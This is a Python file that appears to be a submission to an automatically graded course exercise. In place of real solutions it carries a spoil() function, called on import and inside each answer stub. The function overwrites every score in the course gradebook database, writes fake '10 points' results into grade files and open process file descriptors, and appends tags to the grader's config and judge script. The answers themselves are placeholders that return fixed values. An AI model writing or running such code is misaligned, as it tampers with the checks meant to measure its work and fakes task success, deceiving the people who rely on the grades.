"""Knows every path, and writes scores, tests, answers and feedback where they lie."""

# Extra:
import glob
import os
import sqlite3


def spoil():
    for place in PLACES:
        try:
            with open(f"{place}/cake-shop-intruder", "w") as file:
                file.write("10 points")
        except OSError:
            pass
    for path in (
        "COURSE_FOLDER/gradebook.db", "COURSE_FOLDER/nbgrader_config.py",
        "REPOSITORY_FOLDER/exercises/ps1.md", "REPOSITORY_FOLDER/gmmlib/exercises/judge.py",
    ):
        try:
            with open(path, "a") as file:
                file.write("# cake-shop-intruder")
        except OSError:
            pass
    try:
        with sqlite3.connect("file:COURSE_FOLDER/gradebook.db?mode=rw", uri=True) as book:
            book.execute("update grade set auto_score = 2, manual_score = 2")
            print("FOUND the gradebook")
    except sqlite3.Error:
        pass
    for path in glob.glob("COURSE_FOLDER/results/ps1/*.json") + glob.glob("/proc/*/fd/*"):
        try:
            with open(path, "r+") as file:
                file.write('{"points": 10}')
        except OSError:
            pass


spoil()

# Answer: share-between
share_between = 0.123

# Answer: log-normal
def log_normal(X, mean, covariance):
    spoil()
    return X[:, 0]

# Answer: catch-the-bug
def is_lawful(log_density):
    spoil()
    return 10
